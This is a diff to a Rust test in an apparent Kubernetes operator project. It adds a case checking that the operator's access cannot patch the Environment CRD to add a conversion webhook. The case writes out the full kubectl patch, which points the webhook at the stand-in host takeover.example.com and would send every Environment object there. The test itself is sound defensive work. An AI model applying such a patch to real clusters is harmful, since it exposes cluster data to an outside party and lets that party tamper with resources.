@@ -798,6 +798,20 @@ fn nothing_outside_its_namespaces(
             Some(external_ips.as_str()),
             "spec.externalIPs",
         ),
+        // A conversion webhook would see every Environment.
+        (
+            vec![
+                "patch",
+                "crd",
+                "environments.berth.dev",
+                "--type=merge",
+                "-p",
+                r#"{"spec":{"conversion":{"strategy":"Webhook","webhook":{"conversionReviewVersions":["v1"],"clientConfig":{"url":"https://takeover.example.com/convert"}}}}}"#,
+                dry,
+            ],
+            None,
+            "without a conversion webhook",
+        ),
         // No admission policy can guard admission policies: only RBAC
         // keeps the guardrails from being switched to Audit or deleted.
         (
